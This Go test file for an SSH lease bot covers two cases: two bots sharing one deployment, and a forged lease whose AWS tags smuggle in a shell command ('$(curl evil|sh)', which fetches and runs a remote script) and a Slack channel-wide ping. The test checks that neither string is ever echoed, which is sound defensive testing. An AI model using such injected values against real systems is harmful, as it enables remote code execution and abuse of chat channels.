package main

import (
	"strings"
	"testing"
	"time"

	"github.com/sshforward/sshforward/bot/fakeslack"
	"github.com/sshforward/sshforward/internal/testenv"
	"github.com/sshforward/sshforward/provisioner/fakeaws"
)

const sharedKey = "SSHFORWARD_KEY=a key that two bots of one deployment share"

// Two bots of one deployment in one account, each with a store of its own: the one
// that has not opened a lease says so at once in its operators' channel, once for
// each and not again after a restart, and leaves it alone.
func TestTwoBotsOfOneDeployment(t *testing.T) {
	t.Parallel()
	c, aws, _ := fakeCloud(t, fakeaws.Options{})
	one, two := newWorld(t, c, worldOptions{env: []string{sharedKey}}), newWorld(t, c, worldOptions{env: []string{sharedKey}})
	time.Sleep(2 * time.Second) // both have looked at the account while it was empty
	id := one.open(ann, dev, c.instance+" 15s from 203.0.113.7")
	end := one.opened(id).Add(15 * time.Second)
	alarm := func(s *fakeslack.Snapshot) int {
		return said(s, ops, "Another bot of this deployment", "account main", id)
	}
	two.await("the alarm", func(s *fakeslack.Snapshot) bool { return alarm(s) > 0 })
	two.metricIs(`sshforward_elsewhere_leases{account="main"}`, "1")
	two.kill()
	two.start()
	time.Sleep(3 * time.Second)
	if n := alarm(two.slack.Snapshot()); n != 1 {
		t.Errorf("said %d times:\n%s", n, two.transcript())
	}
	if n := strings.Count(two.audit(), `"act":"elsewhere"`); n != 1 {
		t.Errorf("recorded %d times", n)
	}
	one.card(dev, id, "*Open*")
	if !reaches(aws, id) {
		t.Error("the other bot has ended it")
	}
	one.accessEnds(aws, id, end)
	one.card(dev, id, "*Closed*", "The time was up")
}

// Somebody makes a group and a load balancer that look like an open lease, with words
// for its tags: it is shut, and the operators alone read what the tags say, as words.
func TestForgedLeaseEndToEnd(t *testing.T) {
	testenv.SkipRaced(t, "TestShapeEndToEnd goes the same ways")
	t.Parallel()
	c, aws, note := fakeCloud(t, fakeaws.Options{})
	w := newWorld(t, c, worldOptions{})
	time.Sleep(2 * time.Second)
	h := aws.Home()
	tags := map[string]string{
		"sshforward:deployment": "e2e", "sshforward:lease": "zzzzzzz", "sshforward:owner": ann, "sshforward:channel": dev,
		"sshforward:card": dev + "/1700000000.000100", "sshforward:opened": "2026-01-02T03:04:05Z", "sshforward:expires": "2036-01-02T03:04:05Z",
		"sshforward:instance": c.instance, "sshforward:sources": "0.0.0.0/0", "sshforward:proof": "AAAAAAAAAAAAAAAAAAAAAA==",
		"sshforward:ssh-user": "x@203.0.113.66$(curl evil|sh)", "sshforward:rule": "<!channel> call +1 555", "sshforward:approved": "U0CAROL",
	}
	group := h.AddGroup(note.VPC, "sshforward-e2e-zzzzzzz", tags)
	h.AddLoadBalancer("sshforward-e2e-zzzzzzz", note.Public, []string{group}, fakeaws.Listener{Port: 22, InstancePort: 22}, tags)
	h.RegisterOther("sshforward-e2e-zzzzzzz", c.instance)
	w.await("the operators to read what the tags say", func(s *fakeslack.Snapshot) bool {
		return said(s, ops, "zzzzzzz", "the tags say", "sshforward:owner", ann, "0.0.0.0/0",
			"I do not repeat them", "sshforward:ssh-user", "sshforward:rule") > 0
	})
	w.nothingLeftSoon()
	s := w.slack.Snapshot()
	for _, never := range []string{"curl", "555", "<@" + ann + ">", "203.0.113.66"} {
		if strings.Contains(allText(s), never) {
			t.Errorf("somebody reads %q:\n%s", never, w.transcript())
		}
	}
	if n := len(s.Messages(dev)); n != 0 {
		t.Errorf("%d messages where the tags wanted them", n)
	}
}
